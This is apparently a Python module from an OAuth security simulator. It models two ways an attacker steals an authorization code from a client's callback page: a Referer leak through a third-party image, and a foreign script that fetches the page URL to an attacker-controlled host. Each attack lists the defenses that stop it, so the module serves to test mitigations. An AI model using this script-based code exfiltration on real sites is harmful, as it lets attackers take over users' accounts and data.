"""Something of another site in the client's callback page learns its URL (RFC 9700 §4.2.1)."""

from __future__ import annotations

from mockserver.resource_owner.referrer import OLD_DEFAULT_POLICY
from oauthsim.attacker import SITE
from oauthsim.attacks.goals import reads_alices_data
from oauthsim.attacks.leaks.stolen import redeem_and_read
from oauthsim.attacks.registry import attack
from oauthsim.scenarios import Step, Stopped
from oauthsim.scenarios.authorization_code import connect
from oauthsim.scenarios.messages import from_to, request_to
from oauthsim.world import World

REDEEMS = Step("Mallory redeems the code once more", from_to("attacker", "authorization_server"))
READS = Step("With what she gets she reads Alice's calendar", from_to("attacker", "calendar"))
STOPPED_BY = (
    "callback-shows-nothing-foreign",
    "code-leaves-the-address-bar",
    "code-is-single-use",
    "code-verifier-fits-the-challenge",
    "client-secret-is-right",
    "client-uses-its-registered-method",
)


@attack(
    "code-in-the-referer",
    title="Referer leak of the code from the client",
    spec="RFC 9700 §4.2.1",
    catalogue=("ATT-05",),
    goal=reads_alices_data,
    given=("pkce-is-sent",),
    stopped_by=("callback-sends-no-referrer", *STOPPED_BY),
    does_not_help=(
        "pages-send-no-referrer",
        "code-has-not-expired",
        "redirect-uri-is-that-of-the-request",
        "code-replay-revokes-its-tokens",
    ),
    steps=(
        Step("Alice connects her calendar, with a browser of 2019", request_to("/")),
        Step("The client redeems the code as it should", request_to("/token")),
        Step(
            "The page has an image of another site: its Referer is the page's URL", request_to("/counter.png")
        ),
        REDEEMS,
        READS,
    ),
)
def code_in_the_referer(world: World) -> None:
    """The callback page loads an image from elsewhere, and the code in its URL goes along as the Referer."""
    world.client.visitor_counter = world.mallory.serve("/counter.png", "", content_type="image/png")
    world.browser.default_policy = OLD_DEFAULT_POLICY
    connect(world, "Calendar")
    redeem_and_read(world, world.mallory.caught("code"))


@attack(
    "code-read-by-a-foreign-script",
    title="Foreign script reads the code from the callback page",
    spec="RFC 6749 §3.1.2.5",
    catalogue=("ATT-05",),
    goal=reads_alices_data,
    given=("pkce-is-sent",),
    stopped_by=STOPPED_BY,
    does_not_help=(
        "callback-sends-no-referrer",
        "code-has-not-expired",
        "redirect-uri-is-that-of-the-request",
        "code-replay-revokes-its-tokens",
    ),
    steps=(
        Step("Alice connects her calendar", request_to("/")),
        Step("The page at the callback loads a script from elsewhere", request_to("/counter.js")),
        Step("The script reads the address bar, and tells Mallory", request_to("/seen")),
        REDEEMS,
        READS,
    ),
)
def code_read_by_a_foreign_script(world: World) -> None:
    """A script from elsewhere runs in the callback page, and reads the code in its address."""
    script = "tell(mallory, location.href)"
    world.client.visitor_counter = world.mallory.serve("/counter.js", script, content_type="text/javascript")
    connect(world, "Calendar")
    tell_the_address(world)
    redeem_and_read(world, world.mallory.caught("code"))


def tell_the_address(world: World) -> None:
    """Run Mallory's script in the page that Alice sees. Raises Stopped when the page does not load it."""
    runs_in_the_page(world, f"{SITE}/counter.js")
    world.browser.run_script(lambda window: window.fetch(f"{SITE}/seen?{window.location.partition('?')[2]}"))


def runs_in_the_page(world: World, script: str) -> None:
    """Raise Stopped unless the page that Alice sees has loaded the script at that URL."""
    if script not in [one.url for one in world.browser.page.document.resources if one.tag == "script"]:
        raise Stopped("the page that Alice sees has no script of Mallory's in it")
